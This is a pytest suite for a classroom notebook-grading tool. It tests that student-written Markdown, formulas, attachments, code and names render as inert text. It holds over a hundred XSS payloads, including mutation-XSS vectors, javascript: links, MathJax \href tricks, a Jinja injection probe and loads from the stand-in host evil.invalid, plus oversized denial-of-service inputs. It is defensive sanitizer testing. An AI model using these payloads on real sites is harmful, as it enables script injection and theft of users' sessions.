"""Nothing of a submission acts in a page: what students may write, what becomes of it, and what must still be seen."""

import time

import nbformat
import pytest
from lxml import html as lxml_html

from classroom.pages import (
    CLOSE,
    ENTRIES,
    FORMULAS,
    LARGEST,
    LONGEST,
    LONGEST_CODE,
    OPEN,
    Names,
    harmless,
    highlight_code,
    markdown2html,
    visible,
)  # fmt: skip

PNG = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

# Each would open a dialog, ask for something from evil.invalid, send the reader away, or take the page's place.
PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "so <script>alert(1)</script> it is",
    "script from elsewhere": "<script src=//evil.invalid/x.js></script>",
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT >",
    "script, slashes": "<script/x>alert(1)</script/x>",
    "script, unclosed": "<script>alert(1)//",
    "script, nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script, NUL": "<scr\0ipt>alert(1)</scr\0ipt>",
    "script, module": "<script type=module>import('//evil.invalid/x.js')</script>",
    "image error": "<img src=x onerror=alert(1)>",
    "image error, slashes": "<img/src=x/onerror=alert(1)>",
    "image error, newline": "<img src=x\nonerror\n=\nalert(1)>",
    "image error, entity": "<img src=x onerror=&#97;lert(1)>",
    "image error, quotes": '"><img src=x onerror=alert(1)>',
    "image from elsewhere": "<img src=http://evil.invalid/pixel.png>",
    "image set": "<img srcset='http://evil.invalid/pixel.png 1x'>",
    "picture": "<picture><source srcset=http://evil.invalid/p.png><img></picture>",
    "svg": "<svg onload=alert(1)></svg>",
    "svg script": "<svg><script>alert&#40;1)</script></svg>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg use": "<svg><use href='http://evil.invalid/x.svg#x'></use></svg>",
    "svg link": "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "math link": "<math><mtext><a xlink:href='javascript:alert(1)'>x</a></mtext></math>",
    "math action": "<math><maction actiontype='statusline#x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "frame document": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "frame from elsewhere": "<iframe src=//evil.invalid></iframe>",
    "object": "<object data=javascript:alert(1)></object>",
    "embed": "<embed src='data:text/html,<script>alert(1)</script>'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "base": "<base href=http://evil.invalid/>",
    "style sheet": "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "style import": "<style>@import '//evil.invalid/x.css';</style>",
    "style that covers": "<div style='position:fixed;inset:0;z-index:9999;background:red'>gone</div>",
    "style url": "<div style='background:url(//evil.invalid/x.png)'>x</div>",
    "style for the page": "<style>body{display:none}.score{background:url(//evil.invalid/s)}</style>",
    "body": "<body onload=alert(1)>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "autofocus": "<input autofocus onfocus=alert(1)>",
    "content editable": "<div contenteditable autofocus onfocus=alert(1) tabindex=0>x</div>",
    "mouse": "<b onmouseover=alert(1)>move here</b>",
    "pointer": "<p onpointerenter=alert(1) onclick=alert(1)>x</p>",
    "animation": "<style>@keyframes x{}</style><b style='animation:x' onanimationstart=alert(1)>x</b>",
    "video": "<video src=x onerror=alert(1)></video>",
    "video poster": "<video poster=http://evil.invalid/p.png></video>",
    "audio": "<audio src=http://evil.invalid/a.mp3 autoplay></audio>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "form": "<form action=http://evil.invalid><button>Save marks</button></form>",
    "form button": "<button formaction=javascript:alert(1)>x</button><isindex type=image src=x onerror=alert(1)>",
    "text area": "<textarea class='comment tabbable' id='ex05-6-explain-comment'>my own comment</textarea>",
    "score box": "<input class='score tabbable' id='ex05-6-explain' type=number value=3>",
    "clobbered": "<img name=MathJax id=formgrader><form name=formgrader><input name=init></form><a id=base_url>",
    "class of the page": "<div class='nbgrader_cell'><b class='full-credit score-saved tabbable'>x</b></div>",
    "data of the page": "<b data-toggle=tooltip data-html=true title='<img src=x onerror=alert(1)>'>x</b>",
    "data-link": "<a data-link='x' data-toggle=collapse href='<img src=x onerror=alert(1)>'>x</a>",
    "template": "<template><script>alert(1)</script></template>",
    "shadow root": "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "mXSS noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mXSS svg style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mXSS math": "<math></p><style><!--</style><img src/onerror=alert(1)>-->",
    "mXSS glyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
    "mXSS form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mXSS select": "<select><template><style><!--</select><img src=x onerror=alert(1)>--></style>",
    "mXSS title": "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "mXSS xmp": "<xmp><a title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "mXSS comment": "<!--><img src=x onerror=alert(1)>-->",
    "mXSS CDATA": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "mXSS instruction": "<?xml ><img src=x onerror=alert(1)> ?>",
    "mXSS table": "<table><caption><svg><style><b title='</style><img src onerror=alert(1)>'></table>",
    "plain text": "<plaintext>the rest of the page",
    "end of the page": "</div></div></div></body></html><h1 onclick=alert(1)>x",
    "link": "[x](javascript:alert(1))",
    "link, capitals": "[x](JaVaScRiPt:alert(1))",
    "link, tab": "[x](java\tscript:alert(1))",
    "link, entity": "[x](java&#10;script&colon;alert&lpar;1&rpar;)",
    "link, control": "[x](\x01javascript:alert(1))",
    "link, angle brackets": "[x](<javascript:alert(1)>)",
    "link, data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link, vbscript": "[x](vbscript:msgbox(1))",
    "link, title": '[x](http://evil.invalid \'"onmouseover="alert(1)\')',
    "link, attribute": '[x](http://evil.invalid/"onmouseover="alert(1))',
    "link to nbgrader": "[the source](/formgrader/manage_students/%22;alert(1);%22)",
    "link to another server": "[the source](http://localhost:8888/formgrader?path=/tmp/course)",
    "link by reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "link, automatic": "<javascript:alert(1)>",
    "link, HTML": "<a href=javascript:alert(1) target=_top ping=http://evil.invalid>x</a>",
    "picture of Markdown": "![x](http://evil.invalid/p.png)",
    "picture of Markdown, attribute": '![x" onerror="alert(1)](x"onerror="alert(1))',
    "picture of Markdown, script": "![x](javascript:alert(1))",
    "picture, SVG": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "picture, HTML": "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "picture, more than base64": '![x](data:image/png;base64,AAAA"onerror="alert(1))',
    "picture that is missing": "![x](attachment:missing.png)",
    "picture in a link": "[![x](http://evil.invalid/p.png)](javascript:alert(1))",
    "heading": "# <img src=x onerror=alert(1)> {#formgrader}",
    "heading's id": "# statusmessage",
    "table": "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "emphasis": "**<img src=x onerror=alert(1)>** ~~<svg onload=alert(1)>~~",
    "definition": "a\n: <img src=x onerror=alert(1)>",
    "code fence": "```html\n</code></pre><img src=x onerror=alert(1)>\n```",
    "code fence, info": '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "code fence, mermaid": "```mermaid\nA[<img src=x onerror=alert(1)>]\nclick A href 'javascript:alert(1)'\n```",
    "code span": "`</code><img src=x onerror=alert(1)>`",
    "formula with HTML": "$</span><img src=x onerror=alert(1)>$ $$<script>alert(1)</script>$$",
    "formula, environment": "\\begin{equation}<img src=x onerror=alert(1)>\\end{equation}",
    "formula, text": "$\\text{<img src=x onerror=alert(1)>}$",
    "formula, href": "$\\href{javascript:alert(1)}{x}$ $\\href{http://evil.invalid}{x}$",
    "formula, href by entities": "&#36;\\h&#114;ef{http://evil.invalid}{x}&#36;",
    "formula, href after a line": "$$a\\\\\\href{http://evil.invalid}{x}$$",
    "formula, class and id": "$\\class{full-credit}{x}\\cssId{formgrader}{y}\\style{position:fixed;inset:0}{z}$",
    "formula, attributes": "$\\mmlToken{mi}[href='http://evil.invalid' style='position:fixed']{x}\\bbox[red,9in]{x}$",
    "formula, font": "$\\unicode[x;background:url(//evil.invalid/x)]{65}$",
    "formula, loads": "$\\require{../../../x}$",
    "formula, endless": "$\\def\\x{\\x\\x}\\x$ $\\newcommand\\y{\\y}\\y$ $\\let\\h=\\href$",
    "formula that covers": "$\\smash{\\rlap{\\raise 20em{\\rule{200em}{200em}}}}$",
    "Jinja": "{{ 7 * 191 }} {% for x in (1).__class__.__mro__ %}{% endfor %} {{ resources.__init__.__globals__ }}",
    "files prefix": "<img src='files/../../x' onerror=alert(1)>",
    "the mark of what is harmless": f"{OPEN}<img src=x onerror=alert(1)>{CLOSE}",
    "the mark, closed": f"{CLOSE}{CLOSE}<img src=x onerror=alert(1)>{OPEN}",
    "bidirectional": "user \u202e } \u2066if admin\u2069 \u2066 begin",
}  # fmt: skip

HONEST = r"""## The gate

With **bias 1** the gate is *open*: a < b, so `List<int>` and List<int> stay, as do <eos> and AT&T; 5 &lt; 6.

| bias | lag |
|:----:|----:|
| 0 | $x_1 < y_2$ |

- one
- two

$$\frac{\partial c_t}{\partial c_{t-1}} = f_t \\ \text{for } t > 1$$

```python
if a < b and c > d: print("<b>")
```
> a ~~quotation~~
"""

ALLOWED = {
    "body": set(), "html": set(), "div": {"style"}, "img": {"src", "alt"}, "td": {"style"}, "th": {"style"},
    "ol": {"start"},
    **{name: set() for name in "p br hr h1 h2 h3 h4 h5 h6 em strong del code pre blockquote ul ol li dl dt dd table "
       "thead tbody tr".split() if name != "ol"},
}  # fmt: skip


def markdown(text, **more):
    return nbformat.NotebookNode(cell_type="markdown", source=text, **more)


def stored(text, **more):
    """What is stored of a written answer."""
    cell = markdown(text, **more)
    harmless(cell)
    return cell.source


def by_nbconvert(source):
    """What nbconvert makes of it, as its exporter does, without our filters."""
    from bs4 import BeautifulSoup
    from nbconvert.filters import markdown2html_mistune

    return str(BeautifulSoup(markdown2html_mistune(source), features="html.parser"))


WAYS = {
    "by the filter": markdown2html,
    "stored": stored,
    "stored, by nbconvert": lambda text: by_nbconvert(stored(text)),
    "stored, by the filter": lambda text: markdown2html(stored(text)),
}


def tree(html):
    return lxml_html.document_fromstring(f"<html><body>{html}</body></html>")


def assert_tame(html):
    """Nothing but the tags and attributes of text; the outer element is ours, and its style."""
    outer, *others = tree(html).body.iter()
    (outer,) = others[:1]
    assert outer.attrib == {"style": "contain: content; overflow: auto; max-height: 10000px"}
    assert outer.getnext() is None
    assert not (outer.tail or "").strip()
    for element in others[1:]:
        assert isinstance(element.tag, str), f"a comment: {element}"
        assert set(element.attrib) <= ALLOWED[element.tag], (element.tag, dict(element.attrib))
        assert element.tag != "div"
        assert element.get("style", "text-align:left;") in {f"text-align:{w};" for w in ("left", "center", "right")}
        assert element.get("src", PNG).startswith("data:image/png;base64,")


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", PAYLOADS)
def test_what_a_student_may_write_is_only_text(name, way):
    html = WAYS[way](PAYLOADS[name])
    assert_tame(html)
    text = tree(html).text_content()
    for word in ("href", "class", "cssId", "style", "mmlToken", "bbox", "unicode", "require", "def", "let"):
        assert f"\\{word}{{" not in text.replace(f"\\\\\\{word}", "")
        assert f"\\{word}\\" not in text


@pytest.mark.parametrize("way", WAYS)
def test_all_at_once_is_only_text(way):
    assert_tame(WAYS[way]("\n\n".join(PAYLOADS.values())))


def test_without_the_filter_most_of_it_would_act():
    """So that the test above can fail: nbconvert's own rendering of the payloads."""
    acting = 0
    for payload in PAYLOADS.values():
        try:
            assert_tame(f"{OPEN}{by_nbconvert(payload)}{CLOSE}")
        except Exception:  # not tame, or nothing that nbconvert can show at all
            acting += 1
    assert acting > 80


@pytest.mark.parametrize("way", WAYS)
def test_an_honest_answer_looks_as_it_should(way):
    page = tree(WAYS[way](HONEST)).body
    text = page.text_content()
    assert "a < b, so List<int> and List<int> stay, as do <eos> and AT&T; 5 < 6." in text
    assert r"$$\frac{\partial c_t}{\partial c_{t-1}} = f_t \\ \text{for } t > 1$$" in text
    assert page.findtext(".//strong") == "bias 1"
    assert page.findtext(".//em") == "open"
    assert page.findtext(".//h2") == "The gate"
    assert page.findtext(".//del") == "quotation"
    assert [e.text for e in page.iterfind(".//li")] == ["one", "two"]
    assert [e.text_content() for e in page.iterfind(".//table/tbody/tr/td")] == ["0", "$x_1 < y_2$"]
    assert page.find(".//table/thead/tr/th").get("style") == "text-align:center;"
    assert page.findtext(".//pre/code") == 'if a < b and c > d: print("<b>")\n'
    assert page.find(".//blockquote") is not None


@pytest.mark.parametrize("name", PAYLOADS)
def test_what_is_stored_stays_the_same(name):
    assert markdown2html(stored(PAYLOADS[name])) == stored(PAYLOADS[name])
    assert "\n" not in stored(PAYLOADS[name])


def test_the_attempt_is_seen():
    assert tree(stored("<script>alert(1)</script>")).text_content().strip() == "<script>alert(1)</script>"
    assert tree(stored("[x](javascript:alert(1))")).text_content().strip() == "x (javascript:alert(1))"
    assert tree(stored("<https://a.org> [a](https://a.org/?b=1&c=2)")).text_content().strip() == (
        "https://a.org a (https://a.org/?b=1&c=2)"
    )


def test_pictures_that_came_with_the_notebook_are_shown():
    kind, data = PNG.removeprefix("data:").split(";base64,")
    attached = stored("a ![my plot](attachment:my%20plot.png) b", attachments={"my plot.png": {kind: data}})
    assert tree(attached).find(".//img").attrib == {"src": PNG, "alt": "my plot"}
    written = tree(stored(f"a ![b]({PNG}) c\n\n![d]({PNG})"))  # as Colab does
    assert [image.get("src") for image in written.iterfind(".//img")] == [PNG, PNG]
    assert "attachments" not in (cell := markdown("x", attachments={"a": {kind: data}})) or harmless(cell) is None
    assert "attachments" not in cell


@pytest.mark.parametrize("attachments", [
    {"p": {"image/svg+xml": "PHN2Zz4="}}, {"p": {"text/html": "AAAA"}}, {"p": {"image/png": 'AAAA" onerror="alert(1)'}},
    {"p": {"image/png": "A" * (LARGEST + 1)}}, {"p": {"image/png": ["AAAA"]}}, {"p": "AAAA"}, {"p": {}}, ["p"],
])  # fmt: skip
def test_other_attachments_are_not_shown(attachments):
    html = stored("![x](attachment:p)", attachments=attachments)
    assert_tame(html)
    assert "<img" not in html
    assert "picture, not shown: x" in html


def test_pictures_do_not_multiply():
    assert stored(f"![a]({PNG})" + "![a](picture:0)" * 100).count("<img") == 1
    big = "A" * (LARGEST // 2)
    assert stored(f"![a](data:image/png;base64,{big})" * 10).count("<img") == 1


LONG = {
    "5 MB": "x" * 5_000_000,
    "5 MB of words": "word " * 1_000_000,
    "hyphens": "-" * 100_000,
    "quotes": ">" * 10_000,
    "quotes, apart": "> " * 10_000,
    "brackets": "[" * 100_000,
    "brackets, closed": "[" * 9_000 + "]" * 9_000,
    "stars": "*" * 100_000,
    "stars, mixed": "*a **b _c __d " * 2_000,
    "backticks": "`" * 100_000,
    "backticks, growing": "".join("`" * n + "x" for n in range(200)),
    "tags": "<b 1><p>" * 3_000,
    "less": "<" * 100_000,
    "comments": "<!--" * 9_000,
    "dollars": "$" * 100_000,
    "formulas": "$x$ " * 10_000,
    "braces": "$" + "{" * 19_000,
    "environments": "\\begin{a}" * 9_000,
    "display": "\\\\[" * 9_000,
    "lists": "".join(" " * n + "- a\n" for n in range(190)),
    "tables": "|a" * 3_000 + "\n" + "|-" * 3_000 + "\n" + "|a\n" * 3_000,
    "references": "[a]: b\n" * 9_000,
    "newlines": "\n" * 100_000,
    "definitions": "a\n: b\n" * 3_000,
    "ampersands": "&" * 100_000,
    "backslashes": "\\" * 100_000,
    "pictures": "![" * 9_000,
    "data": "data:image/png;base64," * 100_000,
    "tabs": "\t" * 100_000,
    "NULs": "\0" * 100_000,
}


@pytest.mark.parametrize("name", LONG)
def test_no_text_takes_long_or_fills_the_page(name):
    start = time.perf_counter()
    html = stored(LONG[name])
    assert_tame(html)
    assert time.perf_counter() - start < 15  # the slowest takes 2 s
    assert len(html) < 20 * LONGEST
    if len(LONG[name]) > LONGEST and name != "data":
        assert f"cut: the first {LONGEST:,} of {len(LONG[name]):,} characters; submitted/ has all" in html


def test_too_many_formulas_are_left_as_they_are():
    assert "<pre>" not in stored("$x$ " * FORMULAS)
    assert "<pre>" in stored("$x$ " * (FORMULAS + 1))
    table = r"$\begin{matrix} %s \end{matrix}$"
    assert "<pre>" not in stored(table % (r"1 & 2 \\" * (ENTRIES // 2)))
    assert "<pre>" in stored(table % (r"1 & 2 \cr" * (ENTRIES // 2 + 1)))


def test_a_parser_that_fails_shows_the_text(monkeypatch):
    def fail(*given):
        raise RecursionError

    monkeypatch.setattr("classroom.pages.MarkdownWithMath.render", fail)
    assert tree(stored("a < *b*")).findtext(".//pre") == "a < *b*"


def test_unseen_characters_are_seen():
    assert visible("a\u202eb\0c\x1b[31m\ud800\U000e0041\u2028d\r\ne\tf") == (
        "a[U+202E]b[U+0000]c[U+001B][31m[U+D800][U+E0041]\nd\ne\tf"
    )
    assert visible("naïve 中文 العربية 🙂 é") == "naïve 中文 العربية 🙂 é"
    for text in ("\ud800", "&#x202e;", "&#8238;", "\0"):
        assert "[U+" in stored(text)
        stored(text).encode("utf8")  # or the notebook could not be written


def test_code_stays_as_it_is_but_can_be_stored():
    source = 'x = "\x1b[1m \u202e"  # <script>\n'
    cell = nbformat.v4.new_code_cell(source)
    harmless(cell)
    assert cell.source == source
    cell = nbformat.v4.new_code_cell('x = "\ud800"')
    harmless(cell)
    assert cell.source == 'x = "[U+D800]"'


def test_code_in_a_page_is_only_text():
    html = highlight_code("x = '</pre><script>alert(1)</script>\u202e'  # <img src=x onerror=alert(1)>\n%%html\n<b>")
    assert {e.tag for e in tree(html).body.iter()} == {"body", "div", "pre", "span"}
    assert {name for e in tree(html).body.iter() for name in e.attrib} == {"class"}
    assert "</pre><script>alert(1)</script>[U+202E]" in tree(html).text_content()


@pytest.mark.parametrize("code", [
    "x" * 5_000_000, "(" * 50_000, "'" * 50_000, "%%bash\n" + "${" * 20_000, "\\" * 50_000, "f'{" * 16_000,
    "!x " * 16_000, "a?" * 25_000, "  %" * 16_000,
])  # fmt: skip
def test_no_code_takes_long(code):
    start = time.perf_counter()
    shown = tree(highlight_code(code)).text_content()
    assert time.perf_counter() - start < 20
    assert (f"cut: the first {LONGEST_CODE:,} of" in shown) == (len(code) > LONGEST_CODE)


def test_names_are_escaped():
    _, resources = Names().preprocess(
        None, {"last_name": "<img src=x onerror=alert(1)>", "first_name": None, "index": 0}
    )
    assert resources == {"last_name": "&lt;img src=x onerror=alert(1)&gt;", "first_name": None, "index": 0}
